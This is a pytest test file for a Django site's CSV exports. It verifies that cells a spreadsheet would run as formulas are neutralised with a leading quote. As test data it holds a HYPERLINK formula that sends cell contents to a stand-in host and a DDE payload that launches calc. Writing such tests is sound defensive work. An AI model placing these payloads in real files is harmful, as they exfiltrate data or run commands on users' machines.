"""Every CSV the site writes is safe to open in a spreadsheet: no cell runs as a formula.

Each export is given a value that a spreadsheet would run (a registrant named
=HYPERLINK(...), a title starting with @ or a tab…) and is read back with the
csv module: the cell starts with a quote, which makes the spreadsheet show it
as text, and plain numbers and dates are left as they are.
"""

import csv
import io
import re
from datetime import date
from types import SimpleNamespace

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from core import csv_export
from tests.factories import (
    CaseStudyPageFactory,
    EventPageFactory,
    FrameworkFactory,
    FrameworkItemFactory,
    PublicationPageFactory,
    RegistrationFactory,
    StandardPageFactory,
    ToolPageFactory,
    translate,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://x.example/?"&C2&D2,"Details")'
RUNNABLE_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^-?[0-9,.]+$")


def read(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_inert(rows):
    """No cell would be run by a spreadsheet: each starts with a quote, or is a plain number."""
    cells = [cell for row in rows for cell in row]
    assert cells, "the export is not empty"
    runnable = [cell for cell in cells if cell.startswith(RUNNABLE_STARTS) and not PLAIN_NUMBER.match(cell)]
    assert runnable == []


def written(*cells):
    buffer = io.StringIO(newline="")
    csv_export.writer(buffer).writerow(cells)
    return next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


# The writer ------------------------------------------------------------------------


def test_formula_cells_are_quoted_and_plain_values_stay_readable():
    assert written(FORMULA, "+1 555 0100", "@SUM(A1:A9)", "\tx", "\r=1+1", "-3 days") == [
        "'" + FORMULA,
        "'+1 555 0100",
        "'@SUM(A1:A9)",
        "'\tx",
        "'\r=1+1",
        "'-3 days",
    ]
    assert written(-3, "-3", -1.5, "1,234.5", date(2026, 5, 1), "2026-05-01", "Anne-Marie", None, True) == [
        "-3",
        "-3",
        "-1.5",
        "1,234.5",
        "2026-05-01",
        "2026-05-01",
        "Anne-Marie",
        "",
        "True",
    ]


def test_a_pipe_in_a_quoted_cell_cannot_start_a_dde_link():
    assert written("=cmd|' /C calc'!A0") == ["'=cmd\\|' /C calc'!A0"]


@given(st.text())
def test_any_text_is_written_inert_and_read_back_by_restore(text):
    (cell,) = written(text)
    assert not cell.startswith(RUNNABLE_STARTS) or PLAIN_NUMBER.match(cell)
    # What restore cannot tell apart: a text starting with the quote itself, then such a
    # character; and, in a neutralised cell, a backslash the text had before a pipe.
    quoted_trigger = text[1:2] in (*csv_export.DEFUSEDCSV_TRIGGERS, "\t", "\r")
    ambiguous = (text.startswith("'") and (quoted_trigger or text.startswith(csv_export.ESCAPED_PIPE_START))) or (
        "\\|" in text and cell != text
    )
    if not ambiguous:
        assert csv_export.restore(cell) == text


# Every export of the site --------------------------------------------------------------


def test_registrations_export(admin_client):
    RegistrationFactory(
        event=EventPageFactory(),
        name=FORMULA,
        email="formula@example.org",
        organisation="@evil",
        sector="other",
        access_needs="\t=1+1",
    )
    rows = read(admin_client.get("/admin/event_registrations/", {"export": "csv"}))
    assert_inert(rows)
    header = rows[0]
    mine = next(row for row in rows if row[header.index("Email")] == "formula@example.org")
    assert mine[header.index("Name")] == "'" + FORMULA
    assert mine[header.index("Organisation")] == "'@evil"


def test_print_requests_export(admin_client):
    from publications.models import PrintRequest

    PrintRequest.objects.create(
        stock=PublicationPageFactory(printed_copies=10).stock,
        status=PrintRequest.Status.SENT,
        copies=1,
        name=FORMULA,
        email="formula@example.org",
        sector="other",
        address="-2+3 Example Road",
        country="BE",
    )
    rows = read(admin_client.get("/admin/print_requests/", {"export": "csv"}))
    assert_inert(rows)
    header = rows[0]
    mine = next(row for row in rows if row[header.index("Email")] == "formula@example.org")
    assert mine[header.index("Name")] == "'" + FORMULA
    assert mine[header.index("Postal address")] == "'-2+3 Example Road"


def test_translation_status_export(admin_client):
    translate(StandardPageFactory(title=FORMULA), "fr")
    rows = read(admin_client.get("/admin/reports/translation-status/", {"export": "csv"}))
    assert_inert(rows)
    assert "'" + FORMULA in {row[1] for row in rows}


def test_event_targets_export(admin_client, monkeypatch):
    from events import targets

    row = SimpleNamespace(
        label=FORMULA,
        events_target=3,
        events_held=-1,
        events_planned=0,
        participants="+7",
        participants_target=10,
        participants_percent=-12.5,
    )
    monkeypatch.setattr(targets, "current_progress", lambda: [row])
    rows = read(admin_client.get("/admin/reports/event-targets/", {"export": "csv"}))
    assert_inert(rows)
    assert rows[1] == ["'" + FORMULA, "3", "-1", "0", "'+7", "10", "-12.5"]


def test_results_export(admin_client, monkeypatch):
    from results import views

    row = SimpleNamespace(
        section=FORMULA, item="@item", measure="-3 days", language="en", actual=-3, target=5, percent=None, unit="\t"
    )
    monkeypatch.setattr(views, "export_rows", lambda results: [row])
    rows = read(admin_client.get("/admin/reports/results/", {"export": "csv"}))
    assert_inert(rows)
    assert rows[1] == ["'" + FORMULA, "'@item", "'-3 days", "en", "-3", "5", "", "'\t"]


@pytest.mark.parametrize(("dataset", "model"), [("methods", "toolkit.ToolPage"), ("cases", "practices.CaseStudyPage")])
def test_open_data_exports(client, dataset, model):
    factory = {"methods": ToolPageFactory, "cases": CaseStudyPageFactory}[dataset]
    factory(title=FORMULA)
    rows = read(client.get(f"/en/open-data/{dataset}.csv"))
    assert_inert(rows)
    titles = [row[rows[0].index("title")] for row in rows[1:]]
    assert "'" + FORMULA in titles


def test_framework_export_is_inert_and_imports_back_unchanged(client, tmp_path):
    framework = FrameworkFactory(code="TEST")
    item = FrameworkItemFactory(framework=framework, code="S3", name=FORMULA, description="- listens first\n- then")
    # Descriptions go in every language or none.
    for code in ("fr", "nl"):
        translate(framework, code)
        translate(item, code)
    text = client.get("/en/framework/TEST.csv").content.decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert_inert(rows)
    header, s3 = rows[0], next(row for row in rows if row[1] == "S3")
    assert s3[header.index("name_en")] == "'" + FORMULA

    path = tmp_path / "test.csv"
    path.write_text(text, encoding="utf-8")
    call_command("import_framework", str(path), stdout=io.StringIO())
    item.refresh_from_db()
    assert item.name == FORMULA
    assert item.description == "- listens first\n- then"
